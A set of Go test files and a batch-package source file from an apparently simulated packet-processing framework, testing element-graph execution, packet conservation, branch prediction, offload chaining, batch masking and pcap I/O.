	if len(env.transmitted) != 32 {
		t.Fatalf("transmitted %d, want 32", len(env.transmitted))
	}
	if len(env.released) != 0 {
		t.Errorf("released %d, want 0", len(env.released))
	}
	if env.batchPool.Stats().Outstanding != 0 {
		t.Errorf("batches leaked: %d outstanding", env.batchPool.Stats().Outstanding)
	}
	if env.cycles == 0 {
		t.Error("no cycles charged")
	}
}

func TestInvalidPacketsDropped(t *testing.T) {
	g := buildGraph(t, `FromInput() -> CheckIPHeader() -> ToOutput();`, DefaultOptions())
	env := newTestEnv()
	b := mkBatch(t, env, 10, 64)
	// Corrupt three packets' checksums.
	for i := 0; i < 3; i++ {
		b.Packet(i).Data()[packet.EthHdrLen+16] ^= 0xff
	}
	g.Inject(env, pctx(), b)
	if len(env.transmitted) != 7 {
		t.Errorf("transmitted %d, want 7", len(env.transmitted))
	}
	if len(env.released) != 3 {
		t.Errorf("released %d, want 3", len(env.released))
	}
	chk := g.NodeByName("CheckIPHeader@2")
	if chk == nil || chk.Dropped != 3 {
		t.Errorf("CheckIPHeader drop counter wrong: %+v", chk)
	}
}

func TestBranchSplitsAndPrediction(t *testing.T) {
	src := `
		b :: RandomWeightedBranch("0.3");
		FromInput() -> b;
		b[0] -> L2Forward() -> ToOutput();
		b[1] -> Discard();
	`
	// With prediction: the majority path reuses the input batch.
	g := buildGraph(t, src, DefaultOptions())
	env := newTestEnv()
	for iter := 0; iter < 10; iter++ {
		g.Inject(env, pctx(), mkBatch(t, env, 64, 64))
	}
	node := g.NodeByName("b")
	if node.Reuses == 0 {
		t.Error("branch prediction never reused a batch")
	}
	total := len(env.transmitted) + len(env.released)
	if total != 640 {
		t.Errorf("packet conservation violated: %d of 640 accounted", total)
	}
	if env.batchPool.Stats().Outstanding != 0 {
		t.Errorf("batches leaked: %d", env.batchPool.Stats().Outstanding)
	}

	// Without prediction: everything splits, no reuses.
	g2 := buildGraph(t, src, Options{BranchPrediction: false, OffloadChaining: true})
	env2 := newTestEnv()
	for iter := 0; iter < 10; iter++ {
		g2.Inject(env2, pctx(), mkBatch(t, env2, 64, 64))
	}
	n2 := g2.NodeByName("b")
	if n2.Reuses != 0 {
		t.Errorf("prediction disabled but %d reuses", n2.Reuses)
	}
	if n2.Splits <= node.Splits {
		t.Errorf("splits without prediction (%d) should exceed with (%d)", n2.Splits, node.Splits)
	}
}

func TestBranchPredictionCheaperThanSplitting(t *testing.T) {
	// The whole point of Figure 10: masking majority packets costs less
	// than allocating split batches for them.
	src := `
		b :: RandomWeightedBranch("0.01");
		FromInput() -> b;
		b[0] -> ToOutput();
		b[1] -> Discard();
	`
	run := func(opts Options) simtime.Cycles {
		g := buildGraph(t, src, opts)
		env := newTestEnv()
		ctx := pctx() // shared so the PRNG sequence advances across batches
		for iter := 0; iter < 50; iter++ {
			g.Inject(env, ctx, mkBatch(t, env, 64, 64))
		}
		return env.cycles
	}
	with := run(DefaultOptions())
	without := run(Options{BranchPrediction: false, OffloadChaining: true})
	if with >= without {
		t.Errorf("prediction (%d cycles) not cheaper than splitting (%d cycles)", with, without)
	}
}

func TestPerBatchElement(t *testing.T) {
	g := buildGraph(t, `FromInput() -> Queue("64") -> L2Forward() -> ToOutput();`, DefaultOptions())
	env := newTestEnv()
	g.Inject(env, pctx(), mkBatch(t, env, 16, 64))
	if len(env.transmitted) != 16 {
		t.Errorf("transmitted %d, want 16", len(env.transmitted))
	}
}

func TestOffloadInterception(t *testing.T) {
	g := buildGraph(t, `FromInput() -> TestOffloadA() -> TestOffloadB() -> ToOutput();`, DefaultOptions())
	env := newTestEnv()

	// CPU-annotated batch flows straight through.
	b := mkBatch(t, env, 8, 64)
	g.Inject(env, pctx(), b)
	if len(env.offloads) != 0 || len(env.transmitted) != 8 {
		t.Fatalf("CPU batch: offloads=%d transmitted=%d", len(env.offloads), len(env.transmitted))
	}

	// Device-annotated batch is intercepted, with both offloadables chained.
	b2 := mkBatch(t, env, 8, 64)
	b2.Anno[batch.AnnoDevice] = 1
	g.Inject(env, pctx(), b2)
	if len(env.offloads) != 1 {
		t.Fatalf("offloads = %d, want 1", len(env.offloads))
	}
	call := env.offloads[0]
	if len(call.chain) != 2 {
		t.Errorf("chain length = %d, want 2 (chaining enabled)", len(call.chain))
	}
	resumeNode := g.Nodes[call.resume]
	if !resumeNode.isSink {
		t.Errorf("resume node = %s, want the sink", resumeNode.Name)
	}
}

func TestOffloadChainingDisabled(t *testing.T) {
	g := buildGraph(t, `FromInput() -> TestOffloadA() -> TestOffloadB() -> ToOutput();`,
		Options{BranchPrediction: true, OffloadChaining: false})
	env := newTestEnv()
	b := mkBatch(t, env, 4, 64)
	b.Anno[batch.AnnoDevice] = 1
	g.Inject(env, pctx(), b)
	if len(env.offloads) != 1 {
		t.Fatalf("offloads = %d, want 1", len(env.offloads))
	}
	if len(env.offloads[0].chain) != 1 {
		t.Errorf("chain length = %d, want 1 (chaining disabled)", len(env.offloads[0].chain))
	}
	// The resume node must be the second offloadable.
	if g.Nodes[env.offloads[0].resume].Elem.Class() != "TestOffloadB" {
		t.Errorf("resume = %s, want TestOffloadB", g.Nodes[env.offloads[0].resume].Name)
	}
}

func TestRunFromUnconnectedDrops(t *testing.T) {
	g := buildGraph(t, `FromInput() -> NoOp() -> ToOutput();`, DefaultOptions())
	env := newTestEnv()
	b := mkBatch(t, env, 5, 64)
	g.RunFrom(env, pctx(), -1, b)
	if len(env.released) != 5 || g.DropUnrouted != 5 {
		t.Errorf("released=%d DropUnrouted=%d, want 5,5", len(env.released), g.DropUnrouted)
	}
}

func TestBatchPoolExhaustionDropsSplitPath(t *testing.T) {
	src := `
		b :: RandomWeightedBranch("0.5");
		FromInput() -> b;
		b[0] -> ToOutput();
		b[1] -> Discard();
	`
	g := buildGraph(t, src, DefaultOptions())
	env := newTestEnv()
	// Drain the pool except one batch (the one we inject).
	var hold []*batch.Batch
	for env.batchPool.Available() > 1 {
		hold = append(hold, env.batchPool.MustGet())
	}
	b := mkBatch(t, env, 32, 64)
	g.Inject(env, pctx(), b) // split allocation must fail gracefully
	total := len(env.transmitted) + len(env.released)
	if total != 32 {
		t.Errorf("conservation violated under exhaustion: %d of 32", total)
	}
	for _, h := range hold {
		env.batchPool.Put(h)
	}
}

func TestBuildErrors(t *testing.T) {
	cases := []struct {
		src     string
		wantSub string
	}{
		{`FromInput() -> Bogus() -> ToOutput();`, "unknown class"},
		{`FromInput() -> NoOp("arg") -> ToOutput();`, "no parameters"},
		{`NoOp() -> ToOutput();`, "no source"},
		{`FromInput() -> NoOp();`, "no sink"},
		{`a :: FromInput(); a -> ToOutput(); FromInput() -> ToOutput();`, "multiple source"},
		{`a :: FromInput();`, "not connected"},
		{`a :: NoOp(); FromInput() -> a; a[1] -> ToOutput();`, "no output port"},
		{`a :: NoOp(); FromInput() -> a; a -> ToOutput(); a -> Discard();`, "connected twice"},
		{`a :: FromInput(); NoOp() -> a;`, "into source"},
	}
	cctx := &element.ConfigContext{NodeLocal: element.NewNodeLocal(), NumPorts: 4, Rand: rng.New(1)}
	for _, c := range cases {
		cfg, err := conflang.Parse(c.src)
		if err != nil {
			t.Errorf("Parse(%q): %v", c.src, err)
			continue
		}
		_, err = Build(cfg, cctx, sysinfo.Default(), DefaultOptions())
		if err == nil {
			t.Errorf("Build(%q) succeeded, want error %q", c.src, c.wantSub)
		} else if !strings.Contains(err.Error(), c.wantSub) {
			t.Errorf("Build(%q) error = %q, want substring %q", c.src, err, c.wantSub)
		}
	}
}

func TestCycleRejected(t *testing.T) {
	src := `
		a :: NoOp();
		b :: NoOp();
		FromInput() -> a;
		a -> b;
	`
	cfg, err := conflang.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	// Manually add the back edge b -> a plus a sink so only the cycle fails.
	cfg2, err := conflang.Parse(src + "b -> a;")
	if err != nil {
		t.Fatal(err)
	}
	_ = cfg
	cctx := &element.ConfigContext{NodeLocal: element.NewNodeLocal(), NumPorts: 4, Rand: rng.New(1)}
	_, err = Build(cfg2, cctx, sysinfo.Default(), DefaultOptions())
	if err == nil || !strings.Contains(err.Error(), "cycle") {
		t.Errorf("cyclic graph error = %v, want cycle", err)
	}
}

func TestEmptyBatchInjection(t *testing.T) {
	g := buildGraph(t, `FromInput() -> NoOp() -> ToOutput();`, DefaultOptions())
	env := newTestEnv()
	b := env.batchPool.MustGet()
	g.Inject(env, pctx(), b)
	if env.batchPool.Stats().Outstanding != 0 {
		t.Error("empty batch not returned to pool")
	}
}

func TestCostScaleInflatesCharges(t *testing.T) {
	g1 := buildGraph(t, `FromInput() -> CheckIPHeader() -> ToOutput();`, DefaultOptions())
	env1 := newTestEnv()
	g1.Inject(env1, pctx(), mkBatch(t, env1, 32, 64))

	g2 := buildGraph(t, `FromInput() -> CheckIPHeader() -> ToOutput();`, DefaultOptions())
	env2 := newTestEnv()
	ctx2 := pctx()
	ctx2.CostScale = 2.0
	g2.Inject(env2, ctx2, mkBatch(t, env2, 32, 64))

	if env2.cycles <= env1.cycles {
		t.Errorf("CostScale=2 charged %d cycles, baseline %d", env2.cycles, env1.cycles)
	}
}
