package graph

import (
	"fmt"
	"strings"
	"testing"

	"nba/internal/packet"
	"nba/internal/rng"
)

// randomPipeline builds a random valid configuration: a tree of processing
// chains with weighted branches, every leaf ending in ToOutput or Discard.
func randomPipeline(r *rng.Rand) string {
	var sb strings.Builder
	var gen func(from string, depth int)
	n := 0
	fresh := func(class, params string) string {
		n++
		name := fmt.Sprintf("e%d", n)
		fmt.Fprintf(&sb, "%s :: %s(%s);\n", name, class, params)
		return name
	}
	gen = func(from string, depth int) {
		// Random chain of simple elements.
		cur := from
		for i := r.Intn(3); i > 0; i-- {
			var next string
			switch r.Intn(3) {
			case 0:
				next = fresh("NoOp", "")
			case 1:
				next = fresh("CheckIPHeader", "")
			default:
				next = fresh("EchoBack", "")
			}
			fmt.Fprintf(&sb, "%s -> %s;\n", cur, next)
			cur = next
		}
		if depth < 2 && r.Bool(0.5) {
			// Branch into two subtrees.
			frac := 0.05 + 0.4*r.Float64()
			b := fresh("RandomWeightedBranch", fmt.Sprintf("%q", fmt.Sprintf("%.2f", frac)))
			fmt.Fprintf(&sb, "%s -> %s;\n", cur, b)
			left := fresh("NoOp", "")
			right := fresh("NoOp", "")
			fmt.Fprintf(&sb, "%s[0] -> %s;\n", b, left)
			fmt.Fprintf(&sb, "%s[1] -> %s;\n", b, right)
			gen(left, depth+1)
			gen(right, depth+1)
			return
		}
		// Terminate.
		if r.Bool(0.8) {
			sink := fresh("ToOutput", "")
			fmt.Fprintf(&sb, "%s -> %s;\n", cur, sink)
		} else {
			sink := fresh("Discard", "")
			fmt.Fprintf(&sb, "%s -> %s;\n", cur, sink)
		}
	}
	src := fresh("FromInput", "")
	gen(src, 0)
	return sb.String()
}

// TestRandomPipelinesConserveAllPackets is the central executor invariant:
// for any pipeline shape, every injected packet is either transmitted or
// released, and every batch returns to its pool — under both branch
// handling strategies.
func TestRandomPipelinesConserveAllPackets(t *testing.T) {
	r := rng.New(20260705)
	for trial := 0; trial < 60; trial++ {
		src := randomPipeline(r)
		for _, pred := range []bool{true, false} {
			opts := Options{BranchPrediction: pred, OffloadChaining: true}
			g := buildGraph(t, src, opts)
			env := newTestEnv()
			ctx := pctx()
			injected := 0
			for round := 0; round < 6; round++ {
				n := 1 + r.Intn(64)
				b := mkBatch(t, env, n, 64)
				injected += n
				g.Inject(env, ctx, b)
			}
			total := len(env.transmitted) + len(env.released)
			if total != injected {
				t.Fatalf("trial %d (pred=%v): %d of %d packets accounted\nconfig:\n%s",
					trial, pred, total, injected, src)
			}
			if out := env.batchPool.Stats().Outstanding; out != 0 {
				t.Fatalf("trial %d (pred=%v): %d batches leaked\nconfig:\n%s",
					trial, pred, out, src)
			}
			// No packet may appear twice across transmitted and released.
			seen := map[*packet.Packet]bool{}
			for _, p := range env.transmitted {
				if seen[p] {
					t.Fatalf("trial %d: packet double-handled", trial)
				}
				seen[p] = true
			}
			for _, p := range env.released {
				if seen[p] {
					t.Fatalf("trial %d: packet both transmitted and released", trial)
				}
				seen[p] = true
			}
		}
	}
}

// TestRandomPipelinesWithCompounds exercises the conflang compound-element
// expansion end-to-end through the executor.
func TestRandomPipelinesWithCompounds(t *testing.T) {
	src := `
		elementclass Checked {
			input -> CheckIPHeader() -> NoOp() -> output;
		}
		elementclass Sampler {
			b :: RandomWeightedBranch("0.3");
			input -> b;
			b[0] -> Checked() -> output;
			b[1] -> Discard();
		}
		FromInput() -> Sampler() -> EchoBack() -> ToOutput();
	`
	g := buildGraph(t, src, DefaultOptions())
	env := newTestEnv()
	ctx := pctx()
	injected := 0
	for round := 0; round < 20; round++ {
		b := mkBatch(t, env, 64, 64)
		injected += 64
		g.Inject(env, ctx, b)
	}
	total := len(env.transmitted) + len(env.released)
	if total != injected {
		t.Fatalf("conservation through compounds: %d of %d", total, injected)
	}
	if len(env.released) == 0 || len(env.transmitted) == 0 {
		t.Error("expected both discarded and transmitted packets")
	}
	frac := float64(len(env.released)) / float64(injected)
	if frac < 0.2 || frac > 0.4 {
		t.Errorf("discard fraction %v, want ~0.3 (branch inside compound)", frac)
	}
}

func TestElementCostsAllRegisteredClassesBuild(t *testing.T) {
	// Every registered element class (except test-only ones) must be
	// instantiable, and those that configure without parameters must build
	// into a runnable graph.
	noParam := []string{
		"NoOp", "EchoBack", "L2Forward", "CheckIPHeader", "CheckIP6Header",
		"DecIPTTL", "DecIP6HLIM", "DropBroadcasts", "Discard", "Queue",
		"CheckUDPHeader", "Counter",
	}
	for _, class := range noParam {
		src := fmt.Sprintf("FromInput() -> %s() -> ToOutput();", class)
		if class == "Queue" {
			src = "FromInput() -> Queue(\"8\") -> ToOutput();"
		}
		if class == "Discard" {
			src = "FromInput() -> Discard();"
		}
		g := buildGraph(t, src, DefaultOptions())
		env := newTestEnv()
		g.Inject(env, pctx(), mkBatch(t, env, 8, 64))
		if got := len(env.transmitted) + len(env.released); got != 8 {
			t.Errorf("%s: %d of 8 packets accounted", class, got)
		}
	}
}
