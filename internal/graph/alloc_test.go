package graph

import (
	"testing"

	"nba/internal/batch"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/trace"
)

// allocEnv is a steady-state Env that recycles everything: no slice appends,
// no per-run allocations of its own, so AllocsPerRun isolates the pipeline.
type allocEnv struct {
	batchPool   *batch.Pool
	transmitted int
	cycles      simtime.Cycles
}

func (e *allocEnv) Transmit(p *packet.Packet)                         { e.transmitted++ }
func (e *allocEnv) ReleasePacket(p *packet.Packet)                    {}
func (e *allocEnv) GetBatch() (*batch.Batch, error)                   { return e.batchPool.Get() }
func (e *allocEnv) PutBatch(b *batch.Batch)                           { b.Reset(); e.batchPool.Put(b) }
func (e *allocEnv) Offload(h *Node, c []*Node, r int, b *batch.Batch) {}
func (e *allocEnv) Charge(c simtime.Cycles)                           { e.cycles += c }

// injectAllocs measures steady-state allocations of one full pipeline pass
// over a 64-packet batch.
func injectAllocs(t *testing.T, g *Graph) float64 {
	t.Helper()
	env := &allocEnv{batchPool: batch.NewPool("alloc", 8)}
	ctx := pctx()
	pkts := make([]*packet.Packet, 64)
	for i := range pkts {
		p := &packet.Packet{}
		ln := packet.BuildUDP4(p.Buf(), [6]byte{2, 0, 0, 0, 0, 1}, [6]byte{2, 0, 0, 0, 0, 2},
			uint32(0x0A000000+i), 0xC0A80101, uint16(1000+i), 53, 64)
		p.SetLength(ln)
		pkts[i] = p
	}
	run := func() {
		b := env.batchPool.MustGet()
		for _, p := range pkts {
			b.Add(p)
		}
		g.Inject(env, ctx, b)
	}
	run() // warm up pools and any lazy element state
	return testing.AllocsPerRun(200, run)
}

// TestTracerAddsNoAllocsOnHotPath is the worker-hot-path allocation gate for
// the observability layer: with the tracer disabled (nil) the pipeline must
// allocate exactly as much as a never-traced graph, and — because Emit is
// ring-buffered and digest scratch is reused — enabling the tracer must not
// add any allocations either.
func TestTracerAddsNoAllocsOnHotPath(t *testing.T) {
	const src = `FromInput() -> CheckIPHeader() -> DecIPTTL() -> L2Forward() -> ToOutput();`

	baseline := injectAllocs(t, buildGraph(t, src, DefaultOptions()))

	disabled := buildGraph(t, src, DefaultOptions())
	disabled.Tracer = nil // explicit: the disabled tracer is a nil *Tracer
	disabled.TraceNow = func() simtime.Time { return 0 }
	if got := injectAllocs(t, disabled); got != baseline {
		t.Errorf("disabled tracer changed hot-path allocations: %v, baseline %v", got, baseline)
	}

	enabled := buildGraph(t, src, DefaultOptions())
	enabled.Tracer = trace.New(trace.Options{Capacity: 1 << 16, CheckpointInterval: -1})
	enabled.TraceNow = func() simtime.Time { return 0 }
	if got := injectAllocs(t, enabled); got != baseline {
		t.Errorf("enabled tracer adds hot-path allocations: %v, baseline %v", got, baseline)
	}
	if enabled.Tracer.Total() == 0 {
		t.Fatal("enabled tracer recorded nothing; the measurement is vacuous")
	}
}
