package batch

import (
	"testing"
	"testing/quick"

	"nba/internal/mempool"
	"nba/internal/packet"
)

func mkPkts(n int) []*packet.Packet {
	pkts := make([]*packet.Packet, n)
	for i := range pkts {
		pkts[i] = &packet.Packet{}
		pkts[i].SetLength(64 + i)
	}
	return pkts
}

func TestBatchAddAndIteration(t *testing.T) {
	var b Batch
	pkts := mkPkts(5)
	for _, p := range pkts {
		if !b.Add(p) {
			t.Fatal("Add failed below capacity")
		}
	}
	if b.Count() != 5 || b.Live() != 5 {
		t.Fatalf("Count=%d Live=%d, want 5,5", b.Count(), b.Live())
	}
	var seen []int
	b.ForEachLive(func(i int, p *packet.Packet) { seen = append(seen, i) })
	if len(seen) != 5 {
		t.Errorf("iterated %d slots, want 5", len(seen))
	}
	if b.TotalBytes() != 64+65+66+67+68 {
		t.Errorf("TotalBytes = %d", b.TotalBytes())
	}
}

func TestBatchCapacity(t *testing.T) {
	var b Batch
	for i := 0; i < MaxBatchSize; i++ {
		if !b.Add(&packet.Packet{}) {
			t.Fatalf("Add %d failed below capacity", i)
		}
	}
	if b.Add(&packet.Packet{}) {
		t.Error("Add beyond capacity succeeded")
	}
}

func TestBatchMasking(t *testing.T) {
	var b Batch
	for _, p := range mkPkts(4) {
		b.Add(p)
	}
	b.Mask(1)
	b.Mask(3)
	if b.Live() != 2 {
		t.Errorf("Live = %d, want 2", b.Live())
	}
	var visited []int
	b.ForEachLive(func(i int, p *packet.Packet) { visited = append(visited, i) })
	if len(visited) != 2 || visited[0] != 0 || visited[1] != 2 {
		t.Errorf("visited = %v, want [0 2]", visited)
	}
	if !b.IsMasked(1) || b.IsMasked(0) {
		t.Error("IsMasked wrong")
	}
}

func TestBatchDoubleMaskPanics(t *testing.T) {
	var b Batch
	b.Add(&packet.Packet{})
	b.Mask(0)
	defer func() {
		if recover() == nil {
			t.Error("double Mask did not panic")
		}
	}()
	b.Mask(0)
}

func TestBatchResults(t *testing.T) {
	var b Batch
	for _, p := range mkPkts(6) {
		b.Add(p)
	}
	for i := 0; i < 6; i++ {
		b.SetResult(i, i%2) // alternate ports 0 and 1
	}
	b.SetResult(5, ResultDrop)
	hist := b.ResultHistogram(1)
	// hist[0]=drops, hist[1]=port0, hist[2]=port1
	if hist[0] != 1 || hist[1] != 3 || hist[2] != 2 {
		t.Errorf("hist = %v, want [1 3 2]", hist)
	}
}

func TestResultHistogramSkipsMasked(t *testing.T) {
	var b Batch
	for _, p := range mkPkts(4) {
		b.Add(p)
	}
	for i := 0; i < 4; i++ {
		b.SetResult(i, 0)
	}
	b.Mask(0)
	hist := b.ResultHistogram(0)
	if hist[1] != 3 {
		t.Errorf("hist[1] = %d, want 3 (masked slot excluded)", hist[1])
	}
}

func TestResultHistogramRangePanics(t *testing.T) {
	var b Batch
	b.Add(&packet.Packet{})
	b.SetResult(0, 7)
	defer func() {
		if recover() == nil {
			t.Error("out-of-range result did not panic")
		}
	}()
	b.ResultHistogram(1)
}

func TestBatchReset(t *testing.T) {
	var b Batch
	for _, p := range mkPkts(3) {
		b.Add(p)
	}
	b.Mask(0)
	b.Anno[AnnoDevice] = 2
	b.Reset()
	if b.Count() != 0 || b.Live() != 0 || b.Anno[AnnoDevice] != 0 {
		t.Error("Reset left state behind")
	}
	// Reusable after reset.
	if !b.Add(&packet.Packet{}) || b.Live() != 1 {
		t.Error("batch unusable after Reset")
	}
}

func TestBatchPoolRecycling(t *testing.T) {
	pool := NewPool("test", 2)
	b1 := pool.MustGet()
	b1.Add(&packet.Packet{})
	b1.Mask(0)
	pool.Put(b1)
	b2 := pool.MustGet()
	if b2.Count() != 0 || b2.Live() != 0 {
		t.Error("pooled batch not reset on Put")
	}
	if _, err := pool.Get(); err != nil {
		t.Errorf("second Get failed: %v", err)
	}
	if _, err := pool.Get(); err != mempool.ErrExhausted {
		t.Error("pool did not exhaust at capacity")
	}
}

func TestLiveInvariantProperty(t *testing.T) {
	// Property: Live() always equals Count() minus the number of masks.
	f := func(adds uint8, maskIdx []uint8) bool {
		var b Batch
		n := int(adds%64) + 1
		for i := 0; i < n; i++ {
			b.Add(&packet.Packet{})
		}
		masked := map[int]bool{}
		for _, m := range maskIdx {
			i := int(m) % n
			if !masked[i] {
				b.Mask(i)
				masked[i] = true
			}
		}
		return b.Live() == n-len(masked) && b.Count() == n
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func BenchmarkBatchAddReset(b *testing.B) {
	var bt Batch
	p := &packet.Packet{}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		for j := 0; j < 64; j++ {
			bt.Add(p)
		}
		bt.Reset()
	}
}
