// Package batch implements packet batches as first-class objects (paper
// §3.2, Figure 4): a lightweight structure of pointer arrays, per-packet
// processing results, a per-batch annotation set, and a mask that lets the
// framework exclude dropped or branched-out packets without shrinking the
// arrays.
package batch

import (
	"fmt"

	"nba/internal/mempool"
	"nba/internal/packet"
)

// MaxBatchSize is the largest computation batch the framework forms. The
// paper's default IO/computation batch size is 64 packets.
const MaxBatchSize = 256

// NumAnnos is the number of batch-level annotation slots (cache-line sized,
// like the per-packet set).
const NumAnnos = 7

// Batch-level annotation slots.
const (
	// AnnoDevice is the load-balancer decision: the index of the
	// computation device that should process offloadable elements for this
	// batch, or CPUDevice for the CPU-side function (paper §3.4: "the load
	// balancing decision is stored as a batch-level annotation").
	AnnoDevice = iota
	AnnoUser0
	AnnoUser1
	// AnnoTenant is the tenant app graph the batch belongs to. Batches are
	// formed from one RX queue's packets and never mix tenants, so a single
	// batch-level slot suffices (mirrors the paper's batch-level LB slot).
	AnnoTenant
)

// CPUDevice is the AnnoDevice value selecting the CPU-side function.
const CPUDevice = 0

// Result values stored per packet. Non-negative results are output-edge
// indices of the element that produced them.
const (
	// ResultDrop marks the packet for release.
	ResultDrop = -1
)

// Batch is a set of packets traversing the element graph together.
type Batch struct {
	pkts    [MaxBatchSize]*packet.Packet
	results [MaxBatchSize]int
	masked  [MaxBatchSize]bool
	count   int // slots in use (including masked)
	live    int // unmasked slots

	// Anno is the batch-level annotation set.
	Anno [NumAnnos]uint64
}

// Reset clears the batch for reuse (mempool.Resetter).
//
//nba:hotpath
func (b *Batch) Reset() {
	for i := 0; i < b.count; i++ {
		b.pkts[i] = nil
		b.results[i] = 0
		b.masked[i] = false
	}
	b.count = 0
	b.live = 0
	b.Anno = [NumAnnos]uint64{}
}

// Add appends a packet; it reports false when the batch is full.
//
//nba:hotpath
func (b *Batch) Add(p *packet.Packet) bool {
	if b.count >= MaxBatchSize {
		return false
	}
	b.pkts[b.count] = p
	b.results[b.count] = 0
	b.masked[b.count] = false
	b.count++
	b.live++
	return true
}

// Count returns the number of slots in use, including masked slots.
func (b *Batch) Count() int { return b.count }

// Live returns the number of unmasked packets.
func (b *Batch) Live() int { return b.live }

// Packet returns the packet in slot i (may be masked).
func (b *Batch) Packet(i int) *packet.Packet { return b.pkts[i] }

// IsMasked reports whether slot i is masked out.
func (b *Batch) IsMasked(i int) bool { return b.masked[i] }

// Mask excludes slot i from further processing. The caller owns the packet
// afterwards (it is NOT released here). Masking an already-masked slot
// panics — it indicates double handling.
//
//nba:hotpath
func (b *Batch) Mask(i int) {
	if b.masked[i] {
		panic(fmt.Sprintf("batch: slot %d masked twice", i))
	}
	b.masked[i] = true
	b.live--
}

// Result returns the processing result of slot i.
func (b *Batch) Result(i int) int { return b.results[i] }

// SetResult stores the processing result of slot i.
func (b *Batch) SetResult(i, r int) { b.results[i] = r }

// ForEachLive calls fn for every unmasked slot.
//
//nba:hotpath
func (b *Batch) ForEachLive(fn func(i int, p *packet.Packet)) {
	for i := 0; i < b.count; i++ {
		if !b.masked[i] {
			fn(i, b.pkts[i])
		}
	}
}

// TotalBytes returns the summed frame length of live packets.
//
//nba:hotpath
func (b *Batch) TotalBytes() int {
	total := 0
	for i := 0; i < b.count; i++ {
		if !b.masked[i] {
			total += b.pkts[i].Length()
		}
	}
	return total
}

// Pool is a batch mempool.
type Pool = mempool.Pool[Batch]

// NewPool creates a batch pool of the given capacity.
func NewPool(name string, n int) *Pool {
	return mempool.New[Batch](name, n, nil)
}

// ResultHistogram tallies live packets per result value. Results must be in
// [-1, maxResult]. The histogram is keyed by result+1 so ResultDrop lands in
// slot 0. It is the input to the framework's split-vs-mask decision.
func (b *Batch) ResultHistogram(maxResult int) []int {
	hist := make([]int, maxResult+2)
	b.ResultHistogramInto(hist, maxResult)
	return hist
}

// ResultHistogramInto is ResultHistogram tallying into caller-provided
// storage, so per-branch accounting on the hot path reuses one scratch
// slice instead of allocating. dst must have length >= maxResult+2; it is
// zeroed first.
//
//nba:hotpath
func (b *Batch) ResultHistogramInto(dst []int, maxResult int) {
	for i := range dst[:maxResult+2] {
		dst[i] = 0
	}
	for i := 0; i < b.count; i++ {
		if b.masked[i] {
			continue
		}
		r := b.results[i]
		if r < ResultDrop || r > maxResult {
			panic(fmt.Sprintf("batch: result %d out of range [-1,%d]", r, maxResult))
		}
		dst[r+1]++
	}
}
