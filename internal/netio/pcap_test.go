package netio

import (
	"bytes"
	"encoding/binary"
	"testing"

	"nba/internal/simtime"
)

func TestPcapRoundTrip(t *testing.T) {
	in := []CapturedPacket{
		{Time: 1500 * simtime.Microsecond, Data: []byte{1, 2, 3, 4, 5}},
		{Time: 2*simtime.Second + 7*simtime.Microsecond, Data: bytes.Repeat([]byte{0xAB}, 64)},
	}
	var buf bytes.Buffer
	if err := WritePcap(&buf, in); err != nil {
		t.Fatal(err)
	}
	out, err := ReadPcap(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2 {
		t.Fatalf("read %d packets, want 2", len(out))
	}
	for i := range in {
		if !bytes.Equal(out[i].Data, in[i].Data) {
			t.Errorf("packet %d data mismatch", i)
		}
		// Timestamps round to microseconds.
		if out[i].Time != in[i].Time {
			t.Errorf("packet %d time %v, want %v", i, out[i].Time, in[i].Time)
		}
	}
}

func TestPcapHeaderFormat(t *testing.T) {
	var buf bytes.Buffer
	if err := WritePcap(&buf, nil); err != nil {
		t.Fatal(err)
	}
	hdr := buf.Bytes()
	if len(hdr) != 24 {
		t.Fatalf("header length %d, want 24", len(hdr))
	}
	if binary.LittleEndian.Uint32(hdr[0:4]) != 0xa1b2c3d4 {
		t.Error("bad magic")
	}
	if binary.LittleEndian.Uint32(hdr[20:24]) != LinkTypeEthernet {
		t.Error("bad link type")
	}
}

func TestPcapReadErrors(t *testing.T) {
	if _, err := ReadPcap(bytes.NewReader([]byte{1, 2})); err == nil {
		t.Error("short header accepted")
	}
	var buf bytes.Buffer
	WritePcap(&buf, []CapturedPacket{{Time: 0, Data: []byte{1}}})
	data := buf.Bytes()
	data[0] ^= 0xff
	if _, err := ReadPcap(bytes.NewReader(data)); err == nil {
		t.Error("bad magic accepted")
	}
	data[0] ^= 0xff
	if _, err := ReadPcap(bytes.NewReader(data[:len(data)-1])); err == nil {
		t.Error("truncated record accepted")
	}
}
