package netio

import (
	"fmt"
	"math"
	"strings"
	"testing"

	"nba/internal/gen"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

func newQueue(rate float64, capacity int) (*RxQueue, *PacketPool) {
	g := &gen.UDP4{FrameLen: 64, Flows: 64, Seed: 1}
	return NewRxQueue(0, 0, g, rate, capacity), NewPacketPool("test", 8192)
}

func TestRxQueueArrivalRate(t *testing.T) {
	// 1 Mpps for 1 ms => 1000 packets.
	q, pool := newQueue(1e6, 4096)
	var out []*packet.Packet
	out = q.Poll(simtime.Millisecond, 4096, pool, out)
	if len(out) != 1000 {
		t.Fatalf("received %d packets, want 1000", len(out))
	}
	// Timestamps are evenly spaced at 1us.
	for i, p := range out {
		want := simtime.Time(i+1) * simtime.Microsecond
		if p.Arrival != want {
			t.Fatalf("packet %d arrival %v, want %v", i, p.Arrival, want)
		}
		if p.Seq != uint64(i) || p.InPort != 0 {
			t.Fatalf("packet %d metadata wrong: seq=%d port=%d", i, p.Seq, p.InPort)
		}
	}
	for _, p := range out {
		pool.Put(p)
	}
}

func TestRxQueueBurstLimit(t *testing.T) {
	q, pool := newQueue(1e6, 4096)
	out := q.Poll(simtime.Millisecond, 64, pool, nil)
	if len(out) != 64 {
		t.Fatalf("burst returned %d, want 64", len(out))
	}
	if got := q.Backlog(simtime.Millisecond); got != 936 {
		t.Errorf("backlog = %d, want 936", got)
	}
	for _, p := range out {
		pool.Put(p)
	}
}

func TestRxQueueOverflowDrops(t *testing.T) {
	q, pool := newQueue(1e6, 100) // tiny queue
	// After 10 ms without polling, 10000 packets arrived into 100 slots.
	if got := q.Backlog(10 * simtime.Millisecond); got != 100 {
		t.Errorf("backlog = %d, want 100 (capacity)", got)
	}
	_, dropped, _ := q.Stats()
	if dropped != 9900 {
		t.Errorf("dropped = %d, want 9900", dropped)
	}
